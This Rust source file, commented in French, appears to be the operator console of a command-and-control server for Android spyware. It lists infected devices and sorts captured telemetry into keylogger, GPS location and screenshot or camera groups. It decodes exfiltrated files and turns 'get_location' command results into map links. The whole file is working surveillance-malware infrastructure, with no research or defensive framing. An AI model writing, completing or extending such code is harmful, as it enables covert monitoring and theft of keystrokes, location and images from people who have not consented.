/**
 * CONSOLE - Projections en lecture pour l'opérateur
 *
 * RÔLE :
 * - list_devices   : vue plate des devices (infos manquantes -> "Unknown")
 * - list_telemetry : télémétrie filtrée par type ou groupe d'alias, enrichie à la lecture
 * - command_results: résultats de commandes avec mise en forme par type
 *
 * Aucune écriture : l'enrichissement de lecture n'est jamais réécrit dans le store.
 */

use crate::codec::PayloadCodec;
use crate::enrich::{self, map_url};
use crate::error::EngineResult;
use crate::ingest::resolve_device_id;
use crate::models::{ts, CommandResult, DeviceStatistics, DeviceStatus, TelemetryEntry, UNKNOWN_DEVICE};
use crate::queue::CommandQueue;
use crate::registry::DeviceRegistry;
use crate::store::SharedStore;
use serde::Serialize;
use serde_json::{json, Map, Value};
use std::sync::Arc;
use time::OffsetDateTime;
use tracing::debug;

const UNKNOWN: &str = "Unknown";

/// Groupes d'alias : correspondance par sous-chaîne sur le type stocké
const ALIASES: &[(&str, &[&str])] = &[
    ("keylog", &["keylog", "keylogger", "keyboard", "input"]),
    ("location", &["location", "location_data", "gps"]),
    ("screenshots", &["screenshot", "screenshots", "screen", "camera", "image", "media_metadata"]),
];

#[derive(Debug, Clone, Serialize, PartialEq)]
pub struct DeviceInfoView {
    pub model: String,
    pub manufacturer: String,
    pub android_version: String,
    pub sdk_level: String,
}

#[derive(Debug, Clone, Serialize)]
pub struct DeviceView {
    pub device_id: String,
    #[serde(with = "ts")]
    pub registration_time: Option<OffsetDateTime>,
    #[serde(with = "ts")]
    pub last_seen: Option<OffsetDateTime>,
    pub status: DeviceStatus,
    pub statistics: DeviceStatistics,
    pub device_info: DeviceInfoView,
}

#[derive(Debug, Clone, Serialize)]
pub struct TelemetryRow {
    pub device_id: String,
    pub data_type: String,
    #[serde(with = "ts")]
    pub timestamp: Option<OffsetDateTime>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub data: Option<Value>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub error: Option<String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub raw_data: Option<String>,
}

fn info_text(info: &Map<String, Value>, key: &str) -> String {
    match info.get(key) {
        Some(Value::String(s)) if !s.is_empty() => s.clone(),
        Some(Value::Null) | None => UNKNOWN.to_string(),
        Some(Value::String(_)) => UNKNOWN.to_string(),
        Some(other) => other.to_string(),
    }
}

/// `all`, groupe d'alias ou égalité insensible à la casse
pub fn type_matches(requested: &str, stored: &str) -> bool {
    let requested = enrich::normalize_type(requested);
    let stored = enrich::normalize_type(stored);
    if requested == "all" {
        return true;
    }
    match ALIASES.iter().find(|(name, _)| *name == requested) {
        Some((_, members)) => members.iter().any(|m| stored.contains(m)),
        None => stored == requested,
    }
}

pub struct Console {
    store: SharedStore,
    registry: Arc<DeviceRegistry>,
    queue: Arc<CommandQueue>,
    codec: PayloadCodec,
}

impl Console {
    pub fn new(store: SharedStore, registry: Arc<DeviceRegistry>, queue: Arc<CommandQueue>, codec: PayloadCodec) -> Self {
        Self { store, registry, queue, codec }
    }

    pub async fn list_devices(&self) -> EngineResult<Vec<DeviceView>> {
        let devices = self.registry.list().await?;
        Ok(devices
            .into_iter()
            .map(|d| DeviceView {
                device_info: DeviceInfoView {
                    model: info_text(&d.device_info, "model"),
                    manufacturer: info_text(&d.device_info, "manufacturer"),
                    android_version: info_text(&d.device_info, "android_version"),
                    sdk_level: info_text(&d.device_info, "sdk_level"),
                },
                device_id: d.device_id,
                registration_time: d.registration_time,
                last_seen: d.last_seen,
                status: d.status,
                statistics: d.statistics,
            })
            .collect())
    }

    pub async fn list_telemetry(&self, requested: &str) -> EngineResult<Vec<TelemetryRow>> {
        let Some(Value::Object(by_device)) = self.store.get("telemetry").await? else {
            return Ok(Vec::new());
        };

        let mut rows = Vec::new();
        for (device_key, types) in by_device {
            let Value::Object(types) = types else { continue };
            for (type_key, entries) in types {
                if !type_matches(requested, &type_key) {
                    continue;
                }
                let Value::Object(entries) = entries else { continue };
                // clés push croissantes : ordre d'insertion conservé pour les égalités
                for (_, raw) in entries {
                    if let Some(row) = self.project(&device_key, &type_key, raw) {
                        rows.push(row);
                    }
                }
            }
        }

        rows.sort_by(|a, b| b.timestamp.cmp(&a.timestamp));
        debug!("[console] {} entrée(s) pour '{}'", rows.len(), requested);
        Ok(rows)
    }

    fn project(&self, device_key: &str, type_key: &str, raw: Value) -> Option<TelemetryRow> {
        let entry: TelemetryEntry = serde_json::from_value(raw).ok()?;
        let mut row = TelemetryRow {
            device_id: device_key.to_string(),
            data_type: type_key.to_string(),
            timestamp: entry.timestamp,
            data: None,
            error: None,
            raw_data: None,
        };

        match serde_json::from_str::<Value>(&entry.payload) {
            Ok(Value::Object(mut doc)) => {
                let nested = enrich::nested_data(&doc);
                let (resolved, _) = resolve_device_id(&doc, nested.as_ref(), None);
                if resolved != UNKNOWN_DEVICE {
                    row.device_id = resolved;
                }
                enrich::enrich(type_key, &mut doc);
                enrich::decode_files(&mut doc, &self.codec);
                row.data = Some(Value::Object(doc));
            }
            Ok(other) => row.data = Some(other),
            Err(e) => {
                row.error = Some(format!("Failed to parse payload: {e}"));
                row.raw_data = Some(entry.payload);
            }
        }
        Some(row)
    }

    pub async fn command_results(&self, device_id: &str) -> EngineResult<Vec<CommandResult>> {
        let mut results = self.queue.get_results(device_id).await?;
        for r in results.iter_mut().filter(|r| r.command_type == "get_location") {
            let Value::Object(map) = &mut r.result else { continue };
            if map.contains_key("map_url") {
                continue;
            }
            if let (Some(lat), Some(lng)) = (map.get("latitude"), map.get("longitude")) {
                let url = map_url(lat, lng);
                map.insert("map_url".into(), json!(url));
            }
        }
        Ok(results)
    }
}
